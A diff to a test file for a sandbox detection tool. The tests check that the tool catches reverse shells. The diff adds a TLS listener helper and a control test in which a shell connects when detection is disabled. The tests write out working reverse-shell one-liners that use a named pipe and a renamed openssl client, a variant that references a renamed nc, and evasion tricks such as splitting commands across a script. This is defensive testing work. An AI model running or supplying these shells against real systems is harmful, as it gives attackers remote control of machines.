@@ -41,12 +41,16 @@ const SHELL_ANSWER = 'PRAETOR-SHELL-42';
  * its probe at once, which races any detection that starts at the connect): it sends the probe
  * 1.5 s after a client connects and prints whatever comes back. Bounded by timeoutMs.
  */
-function listener(port: number): Promise<{ stdout: string }> {
-  const py = `import socket, time
+function listener(port: number, tls = false): Promise<{ stdout: string }> {
+  const py = `import socket, ssl, time
 s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
-s.bind(("${SINK}", ${port})); s.listen(1); s.settimeout(15)
+s.bind(("${SINK}", ${port})); s.listen(1); s.settimeout(25)
 try:
     c, _ = s.accept()
+    if ${tls ? 'True' : 'False'}:
+        ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
+        ctx.load_cert_chain("${h.t.tlsCertPath}", "${h.t.dir}/tls-key.pem")
+        c = ctx.wrap_socket(c, server_side=True)
 except OSError:
     raise SystemExit(0)
 time.sleep(1.5)
@@ -62,15 +66,13 @@ try:
 except OSError:
     pass
 `;
-  return h.t.execInInet('python3', ['-c', py], { timeoutMs: 25_000 });
+  return h.t.execInInet('python3', ['-c', py], { timeoutMs: 35_000 });
 }
 
 // ---------------------------------------------------------------- reverse shells by wiring
 
 test('FIFO + sh + renamed openssl s_client to a TLS listener: the wiring is caught, no shell answers', async () => {
-  // The attacker's TLS listener, on the sink's address in the fake internet: it sends a probe
-  // a second after the handshake and prints whatever comes back.
-  const tls = h.t.execInInet('sh', ['-c', `(sleep 1.5; echo 'echo PRAETOR-SHELL-$((6*7))'; sleep 5) | openssl s_server -quiet -naccept 1 -accept ${SINK}:8443 -cert ${h.t.tlsCertPath} -key ${h.t.dir}/tls-key.pem`], { timeoutMs: 20_000 });
+  const tls = listener(8443, true);
   await new Promise((r) => setTimeout(r, 300));
   // Split into a script so no command line holds mkfifo and the TLS client together; the TLS
   // client is a renamed copy.
@@ -87,6 +89,19 @@ sh -i </tmp/q 2>&1 | /tmp/upd s_client -quiet -connect ${SINK}:8443 >/tmp/q
   assert.ok(c.rep.durationMs < 15_000, `contained, not timed out: ${c.rep.durationMs} ms`);
   const heard = await tls;
   assert.ok(!heard.stdout.includes(SHELL_ANSWER), `no shell answered the TLS listener: ${heard.stdout.slice(0, 400)}`);
+});
+
+test('control: the same FIFO + renamed TLS client shell answers the TLS listener when praetor does not detect', async () => {
+  const tls = listener(8443, true);
+  await new Promise((r) => setTimeout(r, 300));
+  const job = `cp /usr/bin/openssl /tmp/upd
+rm -f /tmp/q; mkfifo /tmp/q
+sh -i </tmp/q 2>&1 | /tmp/upd s_client -quiet -connect ${SINK}:8443 >/tmp/q
+`;
+  const c = await h.run('rs-fifo-openssl-control', ['sh', 'job.sh'], { files: { 'job.sh': job }, flags: ['--no-detect', '--timeout', '12'] });
+  assert.equal(c.rep.contained, false);
+  const heard = await tls;
+  assert.ok(heard.stdout.includes(SHELL_ANSWER), `the shell answered through TLS: ${heard.stdout.slice(0, 400)}`);
 });
 
 test('cat FIFO | sh | renamed nc >FIFO (two hops): caught, no shell answers', async () => {
